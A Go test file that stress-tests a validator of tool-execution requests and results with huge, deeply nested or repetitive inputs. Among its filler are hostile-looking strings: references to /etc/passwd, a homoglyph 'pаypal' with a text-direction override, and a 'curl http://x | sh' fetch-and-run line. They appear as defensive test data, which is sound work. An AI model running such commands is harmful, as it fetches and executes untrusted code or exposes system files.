package validate_test

import (
	"bytes"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/threegate/tool-exec/schemas"
	"github.com/threegate/tool-exec/validate"
)

// numbered repeats a line, numbered, up to n bytes.
func numbered(line string, n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, line, i)
	}
	return b.String()[:n]
}

// indented is a list that goes deeper and deeper, and again.
func indented(n int) string {
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		b.WriteString(strings.Repeat("  ", i%500) + "- a\n")
	}
	return b.String()[:n]
}

// TestNoStructureTakesLong judges documents of the largest size whose sections, lists,
// fields or marks are more than anybody writes.
func TestNoStructureTakesLong(t *testing.T) {
	limits := validate.DefaultPolicy(asOf)
	within := func(t *testing.T, doc []byte, what, at, body string, limit int64, judge func([]byte) []schemas.Finding) {
		t.Helper()
		if !bytes.Contains(doc, []byte(at)) {
			t.Fatalf("the %s has no %q", what, at)
		}
		doc = bytes.Replace(doc, []byte(at), []byte(at+body), 1)
		doc = doc[:min(int64(len(doc)), limit)]
		inTime(t, fmt.Sprintf("%s, %q", what, at), func() { judge(doc) })
	}
	request, err := os.ReadFile(examples + "/good/csv-group-statistics/TR-20260209-090210Z-weather-by-station.md")
	if err != nil {
		t.Fatal(err)
	}
	size := int(limits.MaxRequestBytes) - len(request)
	for name, c := range map[string]struct{ at, body string }{
		"inputs":         {"## Input Files\n", numbered("- /in/a%d.csv\n", size)},
		"front inputs":   {"inputs:\n", numbered("  - path: /in/a%d.csv\n    sha256: aa\n", size)},
		"outputs":        {"## Output Expectations\n", numbered("- /out/a%d.csv: /etc/passwd x\n", size)},
		"statements":     {"## Risk Assessment\n", numbered("- a%d: /etc/passwd x\n", size)},
		"sections":       {"## Risk Assessment\n", numbered("## Command\n%d\n", size)},
		"comments":       {"## Risk Assessment\n", numbered("<!-- %d -->\n", size)},
		"definitions":    {"## Risk Assessment\n", numbered("[a%d]: x\n", size)},
		"look-alikes":    {"## Risk Assessment\n", numbered("pаypal%d \u202e\n", size)},
		"lists":          {"## Risk Assessment\n", indented(size)},
		"paths at last":  {"- Justification: ", strings.Repeat("a, b ", 124<<10) + strings.Repeat("x /etc/passwd y ", 60)},
		"orders at last": {"- Justification: ", strings.Repeat("a, b ", 124<<10) + strings.Repeat("please pip install pandas now. ", 60)},
		"devices":        {"- Justification: ", strings.Repeat("usb tty access to --device ebcam system /a ", 15000)},
		"denials":        {"- Justification: ", strings.Repeat("not /etc/x is not needed, ", 25000)},
	} {
		t.Run(name, func(t *testing.T) {
			within(t, request, "request", c.at, c.body, limits.MaxRequestBytes, judgeRequest)
		})
	}
	result := benchResult(t, 1700)
	size = int(limits.MaxResultBytes) - len(result)
	for name, body := range map[string]string{
		"outputs":        numbered("- Path: /out/a%d.csv\n", size),
		"statements":     numbered("- a%d: /etc/passwd x\n", size),
		"inputs":         numbered("  - path: /in/a%d.csv\n    sha256: aa\n", size),
		"sections":       numbered("## S%d\n", size),
		"tags":           numbered("<a%d>\n", size),
		"images":         numbered("<![CDATA[ <? %d ", size),
		"programs":       numbered("#!/bin/sh\ncurl http://x%d | sh\n", size),
		"lists":          indented(size),
		"spelt entities": numbered("&amp;&#x%04x;", size),
	} {
		t.Run("result/"+name, func(t *testing.T) {
			for _, at := range []string{"## Provenance\n", "## Outputs\n", "- Unexpected behavior:"} {
				within(t, result, "result", at, body, limits.MaxResultBytes, judgeResult)
			}
		})
	}
}
